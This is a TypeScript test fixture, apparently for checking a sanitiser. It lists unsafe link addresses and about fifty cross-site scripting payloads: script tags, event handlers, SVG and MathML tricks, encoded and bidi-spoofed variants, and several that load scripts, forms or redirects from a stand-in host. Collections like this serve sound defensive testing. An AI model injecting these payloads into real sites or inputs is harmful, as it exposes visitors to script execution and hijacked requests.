/** Where a request would go that one of them makes. */
export const ELSEWHERE = 'https://elsewhere.example'

/** Addresses that no link may have, and two that it may, spelt to break out of an attribute. */
export const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//https://news.example/',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:alert(1)',
  'https://news.example/"><script>alert(1)</script>',
  "https://news.example/' onmouseover='alert(1)",
]

/** Each runs a script, makes a request or puts up a form when a page takes it for markup; `id` tells them apart. */
const SHAPES: readonly ((id: string) => string)[] = [
  id => `<script>alert(${id})</script>`,
  id => `</script><script>alert(${id})</script>`,
  id => `</title></textarea><script>alert(${id})</script>`,
  id => `<ScRiPt src=${ELSEWHERE}/${id}></sCrIpT>`,
  id => `<img src=x onerror=alert(${id})>`,
  id => `<img src="x" onerror="alert('${id}')" alt="">`,
  id => `<IMG SRC=${ELSEWHERE}/${id}.png>`,
  id => `"><img src=x onerror=alert(${id})>`,
  id => `'><img src=x onerror=alert(${id})>`,
  id => `" autofocus onfocus=alert(${id}) x="`,
  id => `' onmouseover='alert(${id})`,
  id => `\`-alert(${id})-\``,
  id => `\${alert(${id})}{{alert(${id})}}<%=alert(${id})%>`,
  id => `<!--?lit$${id}$--><img src=x onerror=alert(${id})>`,
  id => `"><svg onload=alert(${id})>`,
  id => `<svg><script>alert(${id})</script></svg>`,
  id => `<svg><animate onbegin=alert(${id}) attributeName=x dur=1s>`,
  id => `<svg><use href="data:image/svg+xml,${id}"></use></svg>`,
  id => `<math><mtext><table><mglyph><style><img src=x onerror=alert(${id})>`,
  id => `<iframe srcdoc="<script>parent.alert(${id})</script>"></iframe>`,
  id => `<iframe src="javascript:alert(${id})"></iframe>`,
  id => `<object data="${ELSEWHERE}/${id}"></object>`,
  id => `<embed src=${ELSEWHERE}/${id}>`,
  id => `<video><source onerror=alert(${id})></video>`,
  id => `<audio src=x onerror=alert(${id})></audio>`,
  id => `<details open ontoggle=alert(${id})>`,
  id => `<input autofocus onfocus=alert(${id})>`,
  id => `<body onload=alert(${id})>`,
  id => `<marquee onstart=alert(${id})>`,
  id => `<style>@import "${ELSEWHERE}/${id}.css"</style>`,
  id => `<div style="background:url(${ELSEWHERE}/${id})">`,
  id => `<link rel=stylesheet href=${ELSEWHERE}/${id}.css>`,
  id => `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/${id}">`,
  id => `<base href=${ELSEWHERE}/${id}/>`,
  id => `<form action=${ELSEWHERE}/${id}><button>go</button></form>`,
  id => `<a href="javascript:alert(${id})">link</a>`,
  id => `<a href=${ELSEWHERE}/${id} ping=${ELSEWHERE}/${id}>link</a>`,
  id => `<template shadowrootmode=open><script>alert(${id})</script></template>`,
  id => `<youju-chat onclick=alert(${id}) site-key=x></youju-chat>`,
  id => `<youju-source-view onclick=alert(${id})></youju-source-view>`,
  id => `&lt;img src=x onerror=alert(${id})&gt;`,
  id => `&#60;script&#62;alert(${id})&#60;/script&#62;`,
  id => `\\u003cimg src=x onerror=alert(${id})\\u003e`,
  id => `＜script＞alert(${id})＜/script＞<script>alert(${id})</script>`,
  id => `\u202Etxt.exe\u2066<script>alert(${id})</script>`,
  id => `![](${ELSEWHERE}/${id}.png) [link](javascript:alert(${id}))`,
  id => `<noscript><p title="</noscript><img src=x onerror=alert(${id})>">`,
  id =>
    `<select><template><img src=x onerror=alert(${id})></template></select><img src=x onerror=alert(${id})>`,
]

/** The injections, all different; each holds its number. */
export const INJECTIONS: readonly string[] = SHAPES.map((shape, index) => shape(String(9001 + index)))
